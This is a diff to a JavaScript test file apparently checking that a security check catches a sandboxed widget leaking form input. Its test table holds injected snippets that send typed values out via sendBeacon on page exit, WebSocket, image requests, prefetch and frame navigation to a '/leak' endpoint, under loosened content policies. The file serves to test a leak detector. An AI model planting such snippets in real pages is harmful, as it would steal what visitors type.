@@ -2,6 +2,7 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import { COMPLETE, QUICK } from "./support/cases.mjs";
+import { eventually } from "./support/eventually.mjs";
 import { SEED, randomAnswers } from "./support/random.mjs";
 import { brokenFrame, directive, onInput } from "./support/sabotage.mjs";
 import { stage } from "./support/stage.mjs";
@@ -50,7 +51,7 @@ const BREACHES = [
   ["a beacon as the visitor leaves", {
     code: `let last = ""; ${onInput("last = value")}; addEventListener("pagehide", () => { const value = last; navigator.sendBeacon(${OUT}); })`,
     policy: directive("connect-src", "*"),
-  }, /^(reached the server: \/leak\?Oct|used: sendBeacon)/],
+  }, /^(reached the server: \/leak\?Oct|used: sendBeacon)/, true],
   ["a socket", { code: onInput(`new WebSocket((${OUT}).replace("http", "ws"))`), policy: directive("connect-src", "*") }, /^socket: .*leak\?Oct/],
   ["an image", { code: onInput(`new Image().src = ${OUT}`), policy: directive("img-src", "*") }, /^reached the server: \/leak\?Oct/],
   ["a prefetch", {
@@ -62,12 +63,15 @@ const BREACHES = [
   ["a navigation of the frame, which no policy forbids", { code: onInput(`location.href = ${OUT}`) }, /^(request|navigation): .*leak\?Oct/],
 ];
 
-for (const [name, broken, expected] of BREACHES) {
+for (const [name, broken, expected, onLeaving = false] of BREACHES) {
   test(`the check sees ${name}`, async (t) => {
     const widget = await open(t, await brokenFrame(broken));
     const tell = watchWire(widget);
     await widget.field("notice.dated").fill("Oct 1 2026");
+    const isSeen = (found) => assert.ok(found.some((line) => expected.test(line)), found.join("\n"));
+    // A request of the page dies with it, so it is left only after that; what runs on the way out may reach the server later still.
+    if (!onLeaving) await eventually(async () => isSeen(await tell.soFar()));
     const found = await tell();
-    assert.ok(found.some((line) => expected.test(line)), found.join("\n"));
+    await eventually(async () => isSeen([...found, ...(await tell.soFar())]));
   });
 }
